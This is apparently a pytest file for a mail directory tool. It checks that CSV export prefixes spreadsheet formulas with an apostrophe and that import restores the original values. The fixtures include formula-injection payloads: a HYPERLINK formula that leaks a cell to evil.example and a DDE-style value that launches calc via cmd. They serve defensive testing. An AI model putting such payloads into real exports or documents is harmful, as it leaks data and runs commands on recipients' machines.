"""CSV export neutralises spreadsheet formulas (an outsider's display name reaches it), and import reads it back."""

from __future__ import annotations

import csv
import io
import mailbox
from pathlib import Path

from maild.directory import service
from maild.directory.csv_export import export
from maild.directory.csv_formulas import TRIGGERS, neutralise, restore
from maild.directory.csv_import import import_csv
from maild.directory.csv_rows import ImportOptions
from maild.store.db import Database
from tests.helpers import invoke, make_message, write_config

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _fill(db: Database) -> None:
    tp = service.add_thirdparty(db, name=EVIL, external_id="+C-1", tags=["-1", "@vip", "plain"],
                                custom_fields={"formula": "=1+1", "quoted": "'=already quoted", "note": "'plain",
                                               "minus": "-5", "cmd": "@SUM(1+1)*cmd|' /C calc'!A0"})
    service.add_contact(db, thirdparty_id=tp, name="+49 call me", phones=["+49 30 1"], role="-", external_id="P-1")
    service.add_document(db, ref="@INV-1", thirdparty_id=tp, kind="invoice")


def test_no_exported_cell_starts_a_formula_and_import_restores_every_value(db: Database, tmp_path: Path) -> None:
    _fill(db)
    copy = Database(f"sqlite:///{tmp_path / 'copy.db'}")
    copy.upgrade()
    try:
        for entity in ("thirdparties", "contacts", "documents"):
            text = export(db, entity, "csv")
            assert not [c for c in _cells(text) if c[:1] in TRIGGERS and c], text
            path = tmp_path / f"{entity}.csv"
            path.write_text(text, encoding="utf-8", newline="")
            assert import_csv(copy, entity, path).rejected == []
            assert export(copy, entity, "csv") == text
        tp = service.describe_thirdparty(copy, service.resolve_thirdparty(copy, "+C-1").id or 0)
        assert tp["name"] == EVIL and tp["tags"] == ["-1", "@vip", "plain"]
        assert tp["custom_fields"] == {"formula": "=1+1", "quoted": "'=already quoted", "note": "'plain",
                                       "minus": "-5", "cmd": "@SUM(1+1)*cmd|' /C calc'!A0"}
        assert tp["contacts"][0]["name"] == "+49 call me" and tp["contacts"][0]["phones"] == ["+49 30 1"]
        assert tp["documents"][0]["ref"] == "@INV-1"
    finally:
        copy.dispose()
    exported = _cells(export(db, "thirdparties", "csv"))
    assert "'" + EVIL in exported and "''=already quoted" in exported and "'plain" in exported
    raw = _cells(export(db, "thirdparties", "csv", raw=True))
    assert EVIL in raw and "'=already quoted" in raw


def test_the_apostrophe_rules_are_each_others_inverse() -> None:
    values = ["", "a", "'", "''", "=", "'=", "''=x", "-1", "+", "@", "\tx", "\rx", "'a", "a=b", "'\t", "x'="]
    for value in values:
        assert restore(neutralise(value)) == value
        assert neutralise(value)[:1] not in TRIGGERS or not value


def test_import_raw_keeps_the_apostrophe(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "tp.csv"
    path.write_text("external_id,name\nC-1,'=SUM(A1)\nC-2,'plain\n", encoding="utf-8")
    assert import_csv(db, "thirdparties", path, options=ImportOptions(raw=True)).inserted == 2
    assert service.resolve_thirdparty(db, "C-1").name == "'=SUM(A1)"
    assert import_csv(db, "thirdparties", path).updated == 2
    assert service.resolve_thirdparty(db, "C-1").name == "=SUM(A1)"
    assert service.resolve_thirdparty(db, "C-2").name == "'plain"


def test_a_learned_sender_name_reaches_the_export_neutralised(tmp_path: Path, db_url: str) -> None:
    """An outsider writes with a formula as display name; triage assign --learn makes it a contact's name."""
    box = mailbox.Maildir(tmp_path / "mail", create=True)
    box.add(make_message(subject="hi", sender=f'"{EVIL.replace(chr(34), "")}" <mallory@evil.example>'))
    config = write_config(tmp_path / "home", db_url, [{"name": "m", "type": "maildir", "path": str(box._path)}])
    invoke(config, "thirdparty", "add", "Acme", "--external-id", "C-1")
    invoke(config, "ingest", "--once")
    message_id = invoke(config, "triage", "list").stdout.splitlines()[-1].split()[0]
    assert "sender learned" in invoke(config, "triage", "assign", message_id, "C-1", "--learn").stdout
    name = EVIL.replace('"', "")
    contacts = _cells(invoke(config, "export", "contacts").stdout)
    assert "'" + name in contacts and name not in contacts
    assert name in _cells(invoke(config, "export", "contacts", "--raw").stdout)
    out = tmp_path / "contacts.csv"
    invoke(config, "export", "contacts", "--output", str(out))
    assert invoke(config, "import", "contacts", str(out)).stdout.startswith("inserted 1, updated 0, rejected 0")
    listed = invoke(config, "contact", "list").stdout
    assert f"{name}" in listed and f"'{name}" not in listed
